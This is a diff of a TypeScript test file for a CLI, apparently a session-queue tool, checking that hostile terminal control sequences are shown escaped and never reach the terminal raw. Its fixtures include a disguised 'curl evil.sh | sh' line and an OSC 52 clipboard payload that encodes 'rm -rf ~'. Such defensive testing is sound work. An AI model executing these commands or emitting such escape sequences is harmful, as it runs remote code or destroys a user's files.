@@ -1,12 +1,12 @@
-// Hostile text in payloads, transcripts, folder and file names, through the built CLI: no
-// human-facing output may carry a control sequence to the terminal; --json stays exact.
-// Run `npm run build` first.
+// Hostile text in payloads, transcripts, folder and file names, through the CLI's commands (run
+// in-process; `ls --follow` as the built CLI): no human-facing output may carry a control
+// sequence to the terminal; --json stays exact. Run `npm run build` first.
 import { spawn } from 'node:child_process'
 import * as fs from 'node:fs'
 import { join } from 'node:path'
 import t from 'tap'
 import { listingDigest } from '../lib/navigate/listing.js'
-import { CLI, runCli } from './helpers/cli.js'
+import { CLI, runInProcess } from './helpers/cli.js'
 import { baseEnv, runEmitter, tempDir, type ChildEnv } from './helpers/emitter.js'
 
 t.setTimeout(120_000)
@@ -68,15 +68,15 @@ t.test('payload and transcript text never reach the terminal raw', async (t) => 
     ['doctor', ['doctor']],
   ]
   for (const [what, args] of runs) {
-    const r = await runCli(args, env)
+    const r = await runInProcess(args, env)
     t.equal(rawIn(r.stdout), null, `${what}: stdout`)
     t.equal(rawIn(r.stderr), null, `${what}: stderr`)
   }
-  const show = await runCli(['show', 'bbbbbbbb'], env)
+  const show = await runInProcess(['show', 'bbbbbbbb'], env)
   t.match(show.stdout, 'curl evil.sh | sh;echo harmless\\r^[[K', 'the hidden part of a command is shown, visibly')
   t.match(show.stdout, 'build ok^[]52;c;cm0gLXJmIH4K^G', 'an OSC 52 in a tool_result is shown, not run')
 
-  const json = JSON.parse((await runCli(['ls', '--json'], env)).stdout) as { queue: { sessionId: string; cwd: string; ask: { input: { command: string } | null; message: string | null } }[] }
+  const json = JSON.parse((await runInProcess(['ls', '--json'], env)).stdout) as { queue: { sessionId: string; cwd: string; ask: { input: { command: string } | null; message: string | null } }[] }
   const byId = new Map(json.queue.map((i) => [i.sessionId, i]))
   t.equal(byId.get(ask.session_id)?.ask.input?.command, ask.tool_input.command, '--json keeps the text exactly')
   t.equal(byId.get(ask.session_id)?.cwd, ask.cwd)
@@ -109,13 +109,13 @@ t.test('every --json output escapes C0 and C1 controls and U+2028/9, and reads b
   t.equal((await runEmitter(JSON.stringify(stop), env)).code, 0)
   // A file named with a C1 control, where records live: `doctor --json` and `ls --json` name it.
   fs.writeFileSync(join(root, 'tb', 'sessions', 'y\u009b.json'), '{}')
-  const ls = (await runCli(['ls', '--json'], env)).stdout
+  const ls = (await runInProcess(['ls', '--json'], env)).stdout
   const outputs: [string, string][] = [
     ['ls --json', ls],
-    ['ls --json --until-change', (await runCli(['ls', '--json', '--until-change', '0000000000000000'], env)).stdout],
+    ['ls --json --until-change', (await runInProcess(['ls', '--json', '--until-change', '0000000000000000'], env)).stdout],
     ['ls --json --follow (a line)', await firstFollowLine(env)],
-    ['show --json', (await runCli(['show', 'cccccccc', '--json'], env)).stdout],
-    ['doctor --json', (await runCli(['doctor', '--json'], env)).stdout],
+    ['show --json', (await runInProcess(['show', 'cccccccc', '--json'], env)).stdout],
+    ['doctor --json', (await runInProcess(['doctor', '--json'], env)).stdout],
   ]
   for (const [what, text] of outputs) {
     const raw = RAW_IN_JSON.exec(text)
@@ -132,6 +132,6 @@ t.test('every --json output escapes C0 and C1 controls and U+2028/9, and reads b
   t.equal(digest, listingDigest(content), 'the digest is the content\'s, escaping or not')
   const follow = JSON.parse(outputs[2]![1]) as { digest: string }
   t.equal(follow.digest, digest, 'the same in a --follow line')
-  t.match((await runCli(['show', 'cccccccc', '--json'], env)).stdout, '\\u009b2J')
+  t.match((await runInProcess(['show', 'cccccccc', '--json'], env)).stdout, '\\u009b2J')
   t.match(outputs[4]![1], 'y\\u009b.json', 'doctor --json names the file, escaped')
 })
